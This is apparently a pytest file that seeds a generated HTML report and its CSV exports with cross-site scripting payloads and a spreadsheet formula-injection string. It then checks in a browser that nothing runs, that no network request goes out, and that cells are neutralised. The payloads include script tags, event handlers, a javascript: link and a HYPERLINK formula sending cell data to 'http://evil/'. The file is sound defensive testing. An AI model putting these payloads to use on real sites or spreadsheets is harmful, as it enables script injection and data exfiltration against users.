"""A real browser opens a report in which every text that a person or a machine chose is a script: none runs."""

from __future__ import annotations

import csv
import dataclasses
import functools
import http.server
import io
import json
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from orchestrator import durable
from orchestrator.views import figures
from orchestrator.views.report import Report, write_report
from orchestrator.views.spreadsheet import FORMULA_STARTS
from tests.browser import BROWSER, dump_page
from tests.views.answered_sweep import build_answered, change_record
from tests.views.sweep_builder import SweepBuilder, diverged, make_provenance

pytestmark = pytest.mark.slow
in_a_browser = pytest.mark.skipif(
    BROWSER is None, reason="no chromium or google-chrome is installed, so that no script runs is not seen in a browser"
)

ATTACKS = (
    "<script>window.pwned = 1; document.title = 'pwned'; fetch('/stolen/{where}')</script>",
    "<img src=/stolen/{where} onerror=\"document.title = 'pwned'\">",
    "</pre></td></svg><svg onload=\"document.title = 'pwned'\"><style>@import '/stolen/{where}';</style>",
    "<a href=\"javascript:document.title = 'pwned'\" autofocus onfocus=\"document.title = 'pwned'\">{where}</a>",
)
NAME_ATTACK = "<script>stop('/stolen/{where}')</script><img src=/stolen/{where} onerror=\"title='pwned'\">"
"""Of names, of which the page shows what stands behind the last dot or colon."""
FORMULA = '=HYPERLINK("http://evil/"&A1)'


def attack(where: str) -> str:
    return " ".join(text.replace("{where}", where) for text in ATTACKS)


def name_attack(where: str) -> str:
    return NAME_ATTACK.replace("{where}", where)


class Listening(http.server.SimpleHTTPRequestHandler):
    """Serves a folder and notes what is asked for."""

    asked: list[str]

    def do_GET(self) -> None:
        type(self).asked.append(self.path)
        super().do_GET()

    def log_message(self, *args: object) -> None:
        pass


@contextmanager
def listening(folder: Path) -> Iterator[tuple[str, list[str]]]:
    """The address of the folder, and what was asked of it."""
    handler = type("Handler", (Listening,), {"asked": []})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(handler, directory=folder)) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}", handler.asked  # type: ignore[attr-defined]
        server.shutdown()
        thread.join()


def poison(sweep: SweepBuilder) -> None:
    """Scripts in every text of the files that a report is made of."""
    origin = make_provenance(
        device=attack("device"), host=attack("host"), command=attack("command"), git_commit=attack("commit"),
        code_fingerprint=attack("code"), data_fingerprint=attack("data"), executor=attack("executor"),
        versions={"torch": attack("torch"), attack("library"): "1"},
    )  # fmt: skip
    for trial in sweep.trials:
        change_record(sweep, trial, provenance=origin)
        if trial.model.attention != "self":
            file = sweep.results.trial(trial.trial_id).trial_file
            content = json.loads(file.read_bytes())
            content["model"]["attention"] = name_attack("attention")
            durable.write_text(file, json.dumps(content))
    lost, failed, damaged, *_ = reversed(sweep.trials)
    sweep.finish(lost, diverged(lost, diverged=attack("diverged"), provenance=origin))
    sweep.results.trial(failed.trial_id).record_file.unlink()
    sweep.end_attempt(failed, 1, "FAIL", error=f"{FORMULA} {attack('error')}")
    durable.write_text(sweep.results.trial(damaged.trial_id).record_file, attack("notice"))
    durable.write_text(sweep.results.sweep(sweep.name).spec_file, f"# {attack('spec')}\nname: x\n")


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Report:
    axes: dict[str, Any] = {"depth": [4, 8], "attention": ["self", "mix_only"]}
    root = tmp_path_factory.mktemp("poisoned")
    sweep = build_answered(root, axes, seeds=3, num_images=50, question=attack("question"))
    index = sweep.results.sweep(sweep.name).read_index()
    members = tuple(
        dataclasses.replace(
            member,
            axes={**member.axes, name_attack("axis"): attack("value")},
        )
        for member in index.members
    )
    poisoned = dataclasses.replace(index, axes=(*index.axes, name_attack("axis")), members=members)
    durable.write_sealed_json(sweep.results.sweep(sweep.name).trials_file, poisoned.to_json())
    poison(sweep)
    with pytest.MonkeyPatch.context() as patch:
        few = [kind for kind in figures.FIGURES if kind.name in ("accuracy_vs_depth", "map_similarity")]
        patch.setattr(figures, "FIGURES", few)
        return write_report(root, sweep.name)


@in_a_browser
def test_no_script_of_a_report_runs_and_nothing_is_asked_of_the_network(report: Report) -> None:
    with listening(report.path.parent) as (address, asked):
        shown = dump_page(f"{address}/index.html")
    assert "pwned'; fetch" in shown, "the attacks stand on the page, as text"
    assert [path for path in asked if path not in ("/index.html", "/favicon.ico")] == []
    title = re.search(r"<title>(.*?)</title>", shown)
    assert title is not None
    assert title[1] == "depth_sweep \N{EN DASH} orch report"


def test_each_place_of_the_attack_is_on_the_page(report: Report) -> None:
    page = report.path.read_text()
    places = (
        *("device", "host", "command", "commit", "question", "error", "diverged", "spec", "value", "torch", "library"),
        *("axis", "attention", "code", "data", "executor"),
    )
    assert "/stolen/notice" not in page, "what a damaged file holds is not quoted"
    assert [place for place in places if f"/stolen/{place}" not in page] == []


@in_a_browser
def test_the_browser_would_have_run_it(tmp_path: Path) -> None:
    (tmp_path / "index.html").write_text(f"<!DOCTYPE html><title>x</title>{attack('here')}")
    with listening(tmp_path) as (address, asked):
        shown = dump_page(f"{address}/index.html")
    assert "<title>pwned</title>" in shown
    assert "/stolen/here" in asked


@in_a_browser
def test_the_policy_alone_holds_where_escaping_was_forgotten(report: Report, tmp_path: Path) -> None:
    policy = re.search(r"<meta http-equiv=.Content-Security-Policy.*?>", report.path.read_text())
    assert policy is not None
    (tmp_path / "index.html").write_text(f"<!DOCTYPE html>{policy[0]}<title>x</title>{attack('here')}")
    with listening(tmp_path) as (address, asked):
        assert "<title>x</title>" in dump_page(f"{address}/index.html")
    assert [path for path in asked if "stolen" in path] == []


def test_no_cell_of_a_table_is_a_formula(report: Report) -> None:
    tables = [path for path in (*report.tables, *report.figures) if path.suffix == ".csv"]
    cells = [cell for path in tables for row in csv.reader(io.StringIO(path.read_text(), newline="")) for cell in row]
    assert any(cell.startswith(f"'{FORMULA[:5]}") for cell in cells)
    wrong = [
        cell for cell in cells if cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"-?[\d.]+(e[-+]\d+)?", cell)
    ]
    assert wrong == []


def test_every_csv_of_the_package_goes_through_the_spreadsheet_door() -> None:
    package = Path(figures.__file__).parents[1]
    texts = {path.name: path.read_text() for path in package.rglob("*.py")}
    direct = [name for name, text in texts.items() if re.search(r"\.to_csv\(|csv\.writer|DictWriter", text)]
    assert direct == ["spreadsheet.py"]
